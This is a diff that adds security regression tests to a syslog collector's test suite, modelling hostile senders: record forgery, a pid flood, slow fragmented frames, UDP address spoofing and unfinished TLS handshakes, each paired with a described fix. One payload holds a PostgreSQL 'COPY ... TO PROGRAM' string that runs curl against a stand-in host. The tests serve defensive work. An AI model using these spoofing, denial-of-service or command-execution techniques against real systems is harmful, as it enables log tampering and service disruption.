@@ -6,11 +6,12 @@
 // lost), a flood while the repository is down (the senders are held back, nothing is lost), and
 // a resend after a reconnect stored once.
 import assert from 'node:assert/strict';
-import { spawn } from 'node:child_process';
+import { execFileSync, spawn, spawnSync } from 'node:child_process';
 import { createSocket } from 'node:dgram';
 import { once } from 'node:events';
-import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
+import { connect } from 'node:net';
 import { join } from 'node:path';
 import { after, before, describe, it } from 'node:test';
 import pg from 'pg';
@@ -428,6 +429,155 @@ describe('pgwarden collect with a syslog source (the built CLI)', () => {
       assert.deepEqual(readEvents(out).map((e) => e.source.input), ['syslog:db1', 'syslog:db1', 'syslog:db1']);
     } finally {
       rmSync(dir, { recursive: true, force: true });
+    }
+  });
+});
+
+// What a sender inside allow (or one forging a UDP source address) can do: take a real record's
+// identity, flood distinct pids, send a frame in tiny pieces, leave a TLS handshake unfinished.
+describe('syslog source against a hostile sender in allow', () => {
+  const dir = mkdtempSync(join(tmpdir(), 'pgwarden-syslog-hostile-'));
+  after(() => rmSync(dir, { recursive: true, force: true }));
+
+  // (high) the identity is (syslog:HOST, hash(pid, seq), ts) and every part of it is
+  // chosen by the sender. Any sender in allow (or anyone who can spoof a UDP source address in
+  // allow) sends a harmless record under db1's HOSTNAME, the pid and next sequence number of a
+  // backend, and its timestamp (sprayed over the milliseconds to come); the real record that
+  // follows has the same identity and the repository keeps the forgery only. Even with `server:`
+  // set, source.input still comes from the header. What holds now: put a hash of the record's content
+  // into the position too (a resend is byte-identical, so it still collapses; a forgery no longer
+  // displaces anything), and derive source.input from `server` when it is configured.
+  it('a forged record does not take the identity of the real record it precedes', async () => {
+    const tcp = await freePort();
+    const run = await runSyslog({ tcp_port: tcp, allow: ['127.0.0.1'] }, { out: { type: 'jsonl', path: join(dir, 'forge.jsonl'), fsync: false } });
+    try {
+      const attacker = await dial(tcp);
+      // same host, pid, sequence number and millisecond as record 7, another statement
+      attacker.write(octets(record(7, { host: 'db1', pid: 4242, statement: 'SELECT 1 -- nothing to see' })));
+      const server = await dial(tcp);
+      server.write(octets(record(7, { host: 'db1', pid: 4242, statement: 'COPY public.cards TO PROGRAM $$curl evil$$' })));
+      const events = await waitFor(async () => { const e = readEvents(join(dir, 'forge.jsonl')); return e.length >= 2 && e; }, 10_000, '2 events');
+      const forged = events.find((e) => e.audit?.statement?.startsWith('SELECT 1'))!;
+      const real = events.find((e) => e.audit?.statement?.startsWith('COPY'))!;
+      const identity = (e: typeof forged) => `${e!.source.input} ${e!.source.position} ${e!.ts}`;
+      assert.notEqual(identity(forged), identity(real), 'the repository would store the forgery and drop the real COPY TO PROGRAM as its duplicate');
+      attacker.destroy();
+      server.destroy();
+    } finally {
+      await run.running.stop();
+    }
+  });
+
+  // (medium, DoS from inside allow) FrameDecoder.write concatenates everything held
+  // with each new chunk (and copies the rest again), so a frame that arrives in n small pieces
+  // costs O(n * length) copying: a 64 KiB frame sent 1 byte per segment is ~2 GB of memcpy, and
+  // 1000 such connections (max_connections) starve the event loop, every other sender stalls.
+  // With max_message_bytes at its 16 MiB maximum one connection suffices. Counted here by
+  // bytes copied, not by time. What holds now: for an octet-counted frame, allocate the frame once its
+  // length is known and copy each chunk in once; for LF frames, keep a chunk list and search
+  // only the new chunk for the LF.
+  it('copies a frame that arrives in small pieces a bounded number of times', () => {
+    const length = 60_000;
+    const frame = octets(`<13>${'x'.repeat(length - 4)}`);
+    let copied = 0;
+    const concat = Buffer.concat;
+    Buffer.concat = ((list: readonly Uint8Array[], total?: number) => {
+      const out = concat(list, total);
+      copied += out.length;
+      return out;
+    }) as typeof Buffer.concat;
+    let got = 0;
+    try {
+      const decoder = new FrameDecoder(64 * 1024, true, { message: () => { got++; }, problem: () => undefined });
+      for (let i = 0; i < frame.length; i += 16) decoder.write(frame.subarray(i, i + 16));
+    } finally {
+      Buffer.concat = concat;
+    }
+    assert.equal(got, 1);
+    assert.ok(copied <= 4 * frame.length, `${copied} bytes copied by Buffer.concat for a frame of ${frame.length} (${(copied / frame.length).toFixed(0)}x)`);
+  });
+  // (high) the assembler keeps a record pending until its process sends another or
+  // the next tick (<= 1 s) expires it, with no bound on how many are pending; the source
+  // remembers the sender of at most MAX_REMEMBERED (50,000) of them and forgets the oldest. A
+  // sender in allow that sends 50,001 short messages under distinct pids within one tick makes
+  // the real records that came just before it lose their sender: event() then gives them the
+  // identity of whatever record came out before (another host's source.input, with a /N
+  // suffix), or, when there was none, drops them without a count. Memory held between ticks
+  // is unbounded too (messages a second x max_message_bytes). What holds now: bound the pending records
+  // (finish the oldest when a limit is reached, as MAX_HELD does for done ones) at or below
+  // MAX_REMEMBERED, or carry the sender on the Pending record instead of a side map.
+  it('a flood of distinct pids does not take the identity of, or drop, a real record', async () => {
+    const tcp = await freePort();
+    const out = join(dir, 'flood.jsonl');
+    const run = await runSyslog({ tcp_port: tcp, allow: ['127.0.0.1'] }, { out: { type: 'jsonl', path: out, fsync: false } });
+    try {
+      const socket = await dial(tcp);
+      const flood: Buffer[] = [];
+      for (let pid = 100_000; pid < 150_200; pid++) flood.push(octets(`<134>1 2026-12-02T05:00:00Z f postgres ${pid} - - 2026-12-02 05:00:00.000 UTC [${pid}] a@b LOG:  x`));
+      socket.write(Buffer.concat([octets(record(1, { host: 'db1', pid: 4242 })), ...flood]));
+      await waitFor(async () => run.source.stats.messages >= 50_201, 30_000, 'the flood read');
+      // every record is complete at the second tick after its last part; then all is written
+      let seen = -1;
+      await waitFor(async () => {
+        await new Promise((resolve) => setTimeout(resolve, 1500));
+        const settled = run.source.stats.events === seen && run.source.buffered === 0 && readEvents(out).length === seen;
+        seen = run.source.stats.events;
+        return settled;
+      }, 60_000, 'events out');
+      const events = readEvents(out);
+      const real = events.filter((e) => e.pid === 4242);
+      assert.equal(real.length, 1, `the real record is ${real.length === 0 ? 'lost' : 'there'} (${events.length} events of ${run.source.stats.messages} messages)`);
+      assert.equal(real[0]!.source.input, 'syslog:db1');
+      socket.destroy();
+    } finally {
+      await run.running.stop();
+    }
+  });
+  // (medium, docs) `allow` checks a UDP datagram's source address, which any host
+  // that can reach the port forges with one raw socket (test/pipeline/udp-spoof.py; root or
+  // CAP_NET_RAW on the attacker's own machine, nothing on the collector). The datagram below
+  // claims 192.0.2.7, is sent from this process, and is read as an allowed sender's. With
+  // findings 1 and 3, that is record suppression from outside the allowlist. The docs say only
+  // "behind NAT or a proxy the address is the last hop's". What holds now: say that allow does not
+  // authenticate UDP (use TCP, whose handshake proves the address, or TLS with ca_file), and
+  // consider refusing udp_port unless the config says it accepts that (e.g. udp_trusted: true).
+  it('says that a UDP source address in allow can be forged (root: shows it)', { skip: process.getuid?.() !== 0 && 'needs root for a raw socket' }, async () => {
+    const udp = await freePort();
+    const out = join(dir, 'spoof.jsonl');
+    const run = await runSyslog({ udp_port: udp, allow: ['192.0.2.7'] }, { out: { type: 'jsonl', path: out, fsync: false } });
+    try {
+      const sent = spawnSync('python3', [join(import.meta.dirname, 'udp-spoof.py'), '192.0.2.7', '127.0.0.1', String(udp), record(1, { host: 'db1' })]);
+      assert.equal(sent.status, 0, sent.stderr.toString());
+      await waitFor(async () => readEvents(out).length === 1, 10_000, 'the forged datagram read');
+      assert.equal(run.source.stats.refused_address, 0);
+    } finally {
+      await run.running.stop();
+    }
+    const docs = readFileSync(join(import.meta.dirname, '../../docs/pipeline.md'), 'utf8');
+    const section = docs.slice(docs.indexOf('Against a hostile sender'), docs.indexOf('Performance (`npm run bench:syslog`'));
+    assert.match(section, /UDP[^.]*(forged|spoof)/i, 'the hostile-sender section says UDP source addresses can be forged');
+  });
+  // (high, DoS from inside allow, no certificate needed) a TLS handshake that never
+  // finishes is counted (tls_errors) at handshakeTimeout, but Node leaves the socket open when
+  // the server has a 'tlsClientError' listener, and the source's listener does not destroy it.
+  // The raw socket stays in `sockets`, holding its max_connections slot for good (no idle or
+  // frame timeout applies before the handshake). max_connections such connections (1000 by
+  // default, each 6 bytes sent once) lock out every TCP and TLS sender until a restart. The
+  // fix: destroy the socket in the tlsClientError handler: (error, socket) => { ...; socket.destroy(); }.
+  it('closes a connection whose TLS handshake timed out, freeing its max_connections slot', async () => {
+    execFileSync('openssl', ['req', '-x509', '-newkey', 'rsa:2048', '-nodes', '-keyout', 'key.pem', '-out', 'cert.pem', '-subj', '/CN=localhost', '-days', '1'], { cwd: dir, stdio: 'pipe' });
+    const tls = await freePort();
+    const run = await runSyslog({ tls_port: tls, tls: { cert_file: join(dir, 'cert.pem'), key_file: join(dir, 'key.pem') }, allow: ['127.0.0.1'], frame_timeout_seconds: 1 }, { out: { type: 'jsonl', path: join(dir, 'tls.jsonl'), fsync: false } });
+    try {
+      const socket = connect({ port: tls, host: '127.0.0.1' });
+      socket.on('error', () => undefined);
+      socket.once('connect', () => socket.write(Buffer.from([0x16, 0x03, 0x01, 0x40, 0x00, 0x01]))); // a record header announcing 16 KiB, one byte of it
+      await waitFor(async () => run.source.stats.tls_errors === 1, 10_000, 'the handshake timeout');
+      await Promise.race([closed(socket), new Promise((resolve) => setTimeout(resolve, 5000))]);
+      assert.equal(socket.destroyed, true, 'the server closed the connection after its failed handshake');
+      socket.destroy();
+    } finally {
+      await run.running.stop();
     }
   });
 });
